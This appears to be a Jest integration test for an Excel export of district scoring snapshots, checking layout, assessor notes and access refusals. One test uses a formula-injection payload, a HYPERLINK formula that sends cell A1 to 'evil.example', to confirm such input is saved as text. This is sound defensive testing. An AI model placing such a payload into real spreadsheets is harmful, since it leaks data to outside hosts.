/**
 * metrics.exportSnapshot through the real path, on the hand-worked dataset of the metrics tests:
 * the .xlsx is fetched back from (local) cloud storage, read with exceljs and compared cell by
 * cell with the snapshot the liaison sees through getSnapshot.
 */
import ExcelJS from 'exceljs';
import { assess, compute, getSnapshot, type SnapshotView } from '../../shared/contracts/metrics';
import { exportSnapshot } from '../../shared/contracts/metrics-export';
import { findIndicator } from '../../shared/metrics/score';
import { getRubric, RUBRIC_IDS } from '../../shared/rubric/registry';
import { buildWorkbook, COMMITTEE_HEADER, RUBRIC_FIRST_ROW, RUBRIC_HEADER, SHEETS } from '../../cloudfunctions/metrics/export/workbook';
import { ok, useTestCloud } from '../support/local-cloud';
import { district, FROM, OPENID, S1, writeDataset } from '../unit/metrics/dataset';

jest.setTimeout(60_000);

const t = useTestCloud({ demo: false, prepare: (cloud) => writeDataset(cloud.db) });
let view: SnapshotView;
let out: { fileID: string; url: string; fileName: string };
let wb: ExcelJS.Workbook;
const DL = OPENID.districtLiaison;
const rubric = getRubric(RUBRIC_IDS.acceptance);

beforeAll(async () => {
  // a judged item, so the export carries an assessor's entry next to the rule's scores
  ok(await t.call(DL, assess, { districtId: district._id, path: 'innovation', score: 7, reason: '试点推进快', evidence: ['cloud://test-env.7465/metrics/pilot.pdf'] }, 'req-assess-innovation'));
  const done = ok(await t.call(DL, compute, { scope: { level: 'district', id: district._id }, from: FROM }));
  if (done.status !== 'done') throw new Error(done.message);
  view = ok(await t.call(DL, getSnapshot, { id: done.snapshot.id }));
  out = ok(await t.call(DL, exportSnapshot, { id: view.id }));
  const res = await fetch(out.url);
  expect(res.ok).toBe(true);
  wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
}, 60_000);

const text = (ws: ExcelJS.Worksheet, r: number, c: number) => {
  const v = ws.getCell(r, c).value;
  return v === null || v === undefined ? '' : String(v);
};
const num = (ws: ExcelJS.Worksheet, r: number, c: number) => ws.getCell(r, c).value as number | null;

describe('exportSnapshot', () => {
  it('stores an .xlsx in cloud storage and names it after the district and window', () => {
    expect(out.fileID).toMatch(/^cloud:\/\/.+\/metrics-exports\/.+\.xlsx$/);
    expect(out.fileName).toBe(`${district.name}_验收评分_${view.window.from}至${view.window.to}.xlsx`);
    expect(wb.worksheets.map((w) => w.name)).toEqual([SHEETS.rubric, SHEETS.streets, SHEETS.committees, SHEETS.hints]);
  });

  it('lays out 验收评分 like the seed table, one row per indicator with the snapshot scores', () => {
    const ws = wb.getWorksheet(SHEETS.rubric)!;
    expect(text(ws, 1, 1)).toBe(`${rubric.title}（${district.name}）`);
    expect(text(ws, 2, 1)).toContain(`${view.window.from} 至 ${view.window.to}`);
    expect(RUBRIC_HEADER.map((_, c) => text(ws, RUBRIC_FIRST_ROW - 1, c + 1))).toEqual([...RUBRIC_HEADER]);
    expect(view.indicators.length).toBe(12);
    view.indicators.forEach((i, n) => {
      const r = RUBRIC_FIRST_ROW + n;
      const node = findIndicator(rubric, i.path)!;
      // merged cells read back as the master's value
      expect(text(ws, r, 1)).toBe(i.groups[0] ?? i.label);
      expect(text(ws, r, 2)).toBe(i.groups[1] ?? '');
      expect(text(ws, r, 3)).toBe(i.label);
      expect(text(ws, r, 4)).toBe(node.points);
      expect(num(ws, r, 5)).toBe(i.max);
      expect(text(ws, r, 6)).toBe(node.criteria!.join('\n'));
      expect(num(ws, r, 7)).toBe(i.score);
      expect(num(ws, r, 8)).toBe(i.proposed);
      expect(text(ws, r, 9)).toBe(i.value ?? '');
      expect(text(ws, r, 10)).toBe(i.band ?? '');
    });
    const total = RUBRIC_FIRST_ROW + view.indicators.length;
    expect([text(ws, total, 1), num(ws, total, 5), num(ws, total, 7)]).toEqual(['合计', view.max, view.total]);
    // 社区治理平台 spans its six indicators, as 验收内容 does in the seed
    expect(ws.getCell(RUBRIC_FIRST_ROW + 5, 1).isMerged).toBe(true);
    expect(ws.getCell(RUBRIC_FIRST_ROW + 5, 1).master.address).toBe(`A${RUBRIC_FIRST_ROW}`);
  });

  it('keeps the assessor entry in 备注 beside the rule score', () => {
    const ws = wb.getWorksheet(SHEETS.rubric)!;
    const n = view.indicators.findIndex((i) => i.path === 'innovation');
    expect(view.indicators[n]!.assessed).toMatchObject({ score: 7 });
    expect(num(ws, RUBRIC_FIRST_ROW + n, 7)).toBe(7);
    expect(text(ws, RUBRIC_FIRST_ROW + n, 11)).toContain('评估人评定 7 分');
    expect(text(ws, RUBRIC_FIRST_ROW + n, 11)).toContain('试点推进快');
  });

  it('gives each street and each committee with the facts the scores come from', () => {
    const streets = wb.getWorksheet(SHEETS.streets)!;
    view.streets.forEach((s, n) => {
      const init = s.values.initCompletionRate as { num: number; den: number };
      expect([text(streets, 5 + n, 1), num(streets, 5 + n, 2), num(streets, 5 + n, 3)]).toEqual([s.name, s.counted, init.num / init.den]);
      expect(num(streets, 5 + n, 11)).toBe(s.total);
    });
    const ws = wb.getWorksheet(SHEETS.committees)!;
    expect(COMMITTEE_HEADER.map((_, c) => text(ws, 4, c + 1))).toEqual([...COMMITTEE_HEADER]);
    expect(view.rows.length).toBeGreaterThan(2);
    view.rows.forEach((row, n) => {
      const r = 5 + n;
      expect(text(ws, r, 1)).toBe(view.streets.find((s) => s.id === row.streetId)!.name);
      expect([text(ws, r, 2), text(ws, r, 3)]).toEqual([row.name, row.code]);
      expect(text(ws, r, 5)).toBe(row.initGaps.length ? '未完成' : '已完成');
      expect([num(ws, r, 8), num(ws, r, 9), num(ws, r, 10), num(ws, r, 11), num(ws, r, 12), num(ws, r, 13), num(ws, r, 15), num(ws, r, 16)]).toEqual([
        row.completeness.num, row.completeness.den, row.visits, row.meetings, row.activities, row.issuesHandled, row.cloud.num, row.cloud.den,
      ]);
      expect(text(ws, r, 17)).toBe(row.columns.party ? '有' : '无');
    });
    expect(view.rows.some((r) => r.streetId === S1._id)).toBe(true);
  });

  it('lists the hints and the committees holding each indicator back', () => {
    const ws = wb.getWorksheet(SHEETS.hints)!;
    const all = ws.getSheetValues().flat().map(String).join('\n');
    for (const h of view.hints) expect(all).toContain(h.text);
    for (const list of Object.values(view.holdingBack)) for (const c of list) expect(all).toContain(`${c.name}：${c.detail}`);
  });

  it('writes text that starts like a formula (= + - @) as text, never as a formula', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', '+86-21-5555', '-2+3', '@SUM(A1)'];
    const rows = view.rows.map((r, n) => (n < hostile.length ? { ...r, name: hostile[n]! } : r));
    const back = new ExcelJS.Workbook();
    await back.xlsx.load((await buildWorkbook({ ...view, rows }, rubric).xlsx.writeBuffer()) as ArrayBuffer);
    const ws = back.getWorksheet(SHEETS.committees)!;
    hostile.forEach((h, n) => {
      const cell = ws.getCell(5 + n, 2);
      expect({ type: cell.type, value: cell.value, numFmt: cell.numFmt }).toEqual({ type: ExcelJS.ValueType.String, value: h, numFmt: '@' });
    });
    // other cells keep their formats: an ordinary name, a percentage, a count
    expect(ws.getCell(5 + hostile.length, 2).numFmt).not.toBe('@');
    expect(ws.getCell(5, 7).numFmt).toBe('0.00%');
    expect(ws.getCell(5, 8).type).toBe(ExcelJS.ValueType.Number);
  });

  it('refuses committee staff, residents, other districts and unknown snapshots', async () => {
    expect(await t.call(OPENID.staffA, exportSnapshot, { id: view.id })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect(await t.call(OPENID.resident, exportSnapshot, { id: view.id })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect(await t.call(OPENID.otherDistrictLiaison, exportSnapshot, { id: view.id })).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
    expect(await t.call(OPENID.streetLiaison1, exportSnapshot, { id: view.id })).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
    expect(await t.call(DL, exportSnapshot, { id: 'no such id!' })).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
  });
});
